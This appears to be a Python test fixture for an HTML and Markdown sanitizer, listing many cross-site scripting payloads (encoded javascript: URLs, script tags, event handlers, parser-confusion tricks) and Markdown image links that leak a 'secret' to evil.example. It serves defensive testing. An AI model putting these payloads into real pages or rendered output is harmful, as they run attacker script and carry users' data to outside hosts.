"""Active content as it was seen in reports: filter evasion, parsers that differ, images that carry data away."""

from __future__ import annotations

from collections.abc import Iterator

_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#0000058alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#1;javascript:alert(1)",
    "java\x01script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,x",
]
# A tag that is harmless for as long as this leaves before its end is there.
_LONG = (
    "<y and more words that are enough to leave before this can be known to be a tag",
    '<a href="https://example.com/a/path/that/goes/on/and/on/and/on?and=a&query=too"',
    "<details open class=c id=d title='a title that says what it is about' lang=en",
)
_LATE = (
    " onclick=alert(1)>x",
    " title='a > b' onclick = 'alert(1)' >x",
    "\nonclick=alert(1) onmouseover='alert(2)' data-x=\"> onfocus=alert(3)\">x",
    " href=javascript&colon;alert(1)>x",
    " style='background:url(//evil.example/x)'>x",
    " title='<img src=x onerror=alert(1)>'>x",
    " title='`' onclick=alert(1)>`x",
    " title='[x](javascript:alert(1))' onclick=alert(1)>x",
    " title='![x](//evil.example/x)' onclick=alert(1)>x",
    f" title='{'<' * 40}' onclick=alert(1)>x",
)
_MARKDOWN_ADDRESSES = [*_ADDRESSES, "javascript\\:alert(1)", "<javascript:alert(1)>", "<java\tscript:alert(1)>"]
TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
    "<<script>alert(1);//<</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<script\n>alert(1)</script>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    '<IMG SRC="jav\tascript:alert(1);">',
    "<image src=//evil.example/?q=secret>",
    "<img srcset='//evil.example/x.png 2x'>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<a\nhref=x\nonclick=alert(1)>x</a>",
    "<a title='>' onclick=alert(1)>x</a>",
    "<a title=<x onclick=alert(1)>",
    "<b onclick=<script>alert(1)>",
    '<p style="background:url(//evil.example/x)">x</p>',
    "<p style='width:expression(alert(1))'>x</p>",
    "<div onmouseover='alert(1)'>\nx\n</div>",
    '<div title="\n\n[x](</onclick=alert(1)//>)',
    "<div\n\nonclick=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><a x='</title><b onmouseover=alert(1)>'>",
    "<iframe srcdoc='<p>x</p>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<video><source onerror=alert(1)></video>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<table background=//evil.example/x>",
    "<a ping=//evil.example href=x>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<? ><img src=x onerror=alert(1)> ?>",
    "<![CDATA[ ><img src=x onerror=alert(1)> ]]>",
    "<x ![a](`<a\n>`)><svg onload=alert(1)![a](`<a\n>`)",
    *[f"<a href='{address}'>x</a>" for address in _ADDRESSES],
    *[long + late for long in _LONG for late in _LATE],
    f"<a title='{'<' * 40}' onclick=alert(1)>x",
    f"<a x={'<b y=' * 40} onclick=alert(1)>x",
    f"<a href='https://example.com/{'path/' * 12}{'<' * 40}' onclick=alert(1)>x",
    f'<a href="https://example.com/{"path/" * 12}{"<" * 40}" onclick=alert(1)>x',
    f"<div\ntitle='{'<' * 40}' onclick=alert(1)>x",
    "<a<='" + "<" * 40,
    f"<javascript:alert({'<' * 40})>",
    "<https://example.com/onmouseover=alert(1)>",
    "<https://example.com/<svg/onload=alert(1)>",
]
LINKS = [
    *[f"[x]({address})" for address in _MARKDOWN_ADDRESSES],
    *[f"[x]: {address}\n\n[x]" for address in _MARKDOWN_ADDRESSES],
    "[x](\njavascript:alert(1))",
    "> [x](\n> javascript:alert(1))",
    "[a [b](c) `d`](javascript:alert(1)) [x](javascript:alert(1) 'a title')",
    "<javascript:alert(1)>",
    "<javascript:alert(1)<script>x>",
]
IMAGES = [
    "![leak](https://evil.example/?q=secret)",
    "!![leak](https://evil.example/?q=secret)",
    "\\\\![leak](https://evil.example/?q=secret)",
    "![a ![b](c) d](https://evil.example/?q=secret)",
    "[![leak](https://evil.example/?q=secret)](https://example.com)",
    "![leak](<https://evil.example/?q=a secret>)",
    "![leak][x]\n\n[x]: https://evil.example/?q=secret",
    "[x]: https://evil.example/?q=secret\n\n![leak][x]",
    "![x]\n\n> - [X]: https://evil.example/?q=secret",
    "![x][]\n\n[x]:\nhttps://evil.example/?q=secret",
    "[foo [a](b)](![leak](https://evil.example/?q=secret))",
    "| `a | ![leak](https://evil.example/?q=secret) ` | b |\n|---|---|---|\n| c | d | e |",
    "a | b\n-|-\n`c | ![leak](https://evil.example/?q=secret) `",
    "<div onclick=alert(1)>\n![leak](https://evil.example/?q=secret)",
    "> # a\n    > ![leak](https://evil.example/?q=secret)",
    "[a]: b\n<c>\n![leak](https://evil.example/?q=secret)",
    '<?<a title="?>![leak](https://evil.example/?q=secret)">',
]
# Text that looks like code and is none.
_NO_CODE = [
    "\\`{}`",
    "`` a ` {}",
    "`\n\n{} `",
    "- `\n- {} `",
    "# `\n{} `",
    "[a](`) {} `b",
    "<a title='`'> {} `",
    "<!-- ` --> {} `",
    "<https://example.com/`> {} `",
    "[a]: b '`'\n{} `",
    "```a`b\n{}\n```",
    "    ```\n{}\n    ```",
    "```\na\n```` \n{}",
    "~~~\na\n~~~\n{}",
    "> ```\n> a\n\n{}",
    "> ```\n{}",
    "- ```\n  a\n\n{}",
    "- a\n\n  {}",
    "1. a\n\n   {}",
    "a\n    {}",
    "> a\n    {}",
    "<div>\n```\n{}\n```\n</div>",
    "<div>\n`{}`\n</div>",
    "<b>\n`{}`\n</b>",
    "[a]: /b\n    ```\n{}\n",
]


def texts() -> Iterator[str]:
    """All of it, by itself, within other text, and where it only seems to be code."""
    for hostile in (*TAGS, *LINKS, *IMAGES):
        yield hostile
        yield f"Some text, `code` and {hostile}, and more."
        yield f"> - {hostile}"
    for hostile in (TAGS[0], TAGS[7], TAGS[12], LINKS[0], IMAGES[0]):
        for shape in _NO_CODE:
            yield shape.format(hostile)
